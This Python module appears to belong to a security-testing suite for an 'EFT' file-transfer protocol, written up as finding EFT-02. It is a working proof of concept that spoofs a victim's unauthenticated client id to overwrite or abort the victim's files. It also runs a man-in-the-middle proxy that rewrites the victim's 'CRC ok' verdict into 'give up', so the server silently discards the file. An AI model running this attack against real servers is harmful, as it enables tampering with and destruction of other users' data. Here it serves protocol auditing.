"""Requests are not authenticated: the client id in the header is just 16 bytes.

A server that looks a client up by the header's id (the original design keeps the AES
key per client in its database) would act on anyone's 828, 900, 901 or 902 for that
id: overwrite the victim's file, confirm a file the victim is still checking, abort
it. ``--target`` sends such requests with the victim's id on a new connection, then on
a connection registered as ourselves; success if the server acts on any of them.

``--listen`` shows the same weakness from the middle: the verdicts are unauthenticated,
so we turn the victim's 900 (CRC ok) into 902 (give up). The server discards the file
and answers 1604, which the client takes as the answer to its 900: the client reports
the file stored, the server has nothing.
"""

from __future__ import annotations

import argparse
import os

from eft_protocol.codes import RequestCode, ResponseCode

from .common import (
    AttackError,
    ConnectionClosed,
    Link,
    Out,
    ServerLink,
    add_listen_argument,
    add_victim_arguments,
    own_session,
    victim_from_args,
)
from .framing import Frame, name_request, one_packet_attempt, request
from .proxy import Interceptor, MitmConnection, MitmProxy

FINDING = "EFT-02"
SUMMARY = "spoofed client id / rewritten verdicts act on a victim's files"

VERDICTS = (RequestCode.CRC_OK, RequestCode.CRC_RETRY, RequestCode.CRC_GIVE_UP)


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    add_listen_argument(parser)
    parser.add_argument("--mitm", action="store_true", help="rewrite the victim's 900 to 902")
    parser.add_argument("--file", default="report.txt", help="the victim's file name")
    parser.add_argument("--as", dest="own_name", default="mallory-spoof", help="our own name")
    add_victim_arguments(parser)


async def _spoofed(link: Link, victim_id: bytes, file_name: str) -> list[tuple[int, int]]:
    """Send an 828 and each verdict with the victim's id; (request, answer) pairs."""
    requests = [
        (RequestCode.SEND_FILE, one_packet_attempt(victim_id, file_name, os.urandom(32))),
        *((code, name_request(victim_id, code, file_name)) for code in VERDICTS),
    ]
    pairs = []
    for code, frame in requests:
        await link.send(frame)
        try:
            pairs.append((int(code), (await link.receive(3.0)).code))
        except ConnectionClosed:
            pairs.append((int(code), -1))
            break
        except AttackError:
            pairs.append((int(code), 0))  # no answer at all
    return pairs


async def direct(args: argparse.Namespace, out: Out) -> bool:
    victim = victim_from_args(args)
    link = await ServerLink.open(args.target)
    try:
        fresh = await _spoofed(link, victim.client_id, args.file)
    finally:
        await link.close()
    out.step("on a new connection, as the victim", answers=fresh)
    own = await own_session(args.target, f"{args.own_name}-{os.urandom(3).hex()}")
    try:
        bound = await _spoofed(own.link, victim.client_id, args.file)
    finally:
        await own.link.close()
    out.step("on our own registered connection, with the victim's id", answers=bound)
    acted = [
        (code, answer)
        for code, answer in fresh + bound
        if answer in (ResponseCode.FILE_RECEIVED, ResponseCode.ACKNOWLEDGED)
    ]
    if acted:
        return out.result(
            True, "the server acted on requests with a spoofed client id", acted=acted
        )
    return out.result(
        False,
        "every spoofed request was refused (1607): this server binds a connection to one "
        "client id and keeps the AES key per connection",
        answers=fresh + bound,
    )


class AbortVerdicts(Interceptor):
    def __init__(self, out: Out) -> None:
        self.out = out
        self.rewritten: list[str] = []
        self.acknowledged: list[str] = []

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code == RequestCode.CRC_OK:
            assert frame.client_id is not None
            name = frame.name_field()
            self.rewritten.append(name)
            conn.scratch["waiting"] = name
            self.out.step(f"rewrote the victim's 900 for {name!r} into 902")
            await conn.to_server(request(frame.client_id, RequestCode.CRC_GIVE_UP, frame.payload))
            return
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code == ResponseCode.ACKNOWLEDGED and conn.scratch.get("waiting"):
            self.acknowledged.append(conn.scratch.pop("waiting"))
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        self.proxy.finish(bool(self.acknowledged))


async def run(args: argparse.Namespace, out: Out) -> bool:
    if not args.mitm:
        return await direct(args, out)
    interceptor = AbortVerdicts(out)
    success = await MitmProxy(args.target, interceptor, out).run(args.listen, args.timeout)
    return out.result(
        success,
        f"the server discarded {interceptor.acknowledged} on our 902 and acknowledged it; "
        "the client took the 1604 as the answer to its 900",
        aborted=interceptor.acknowledged,
    )
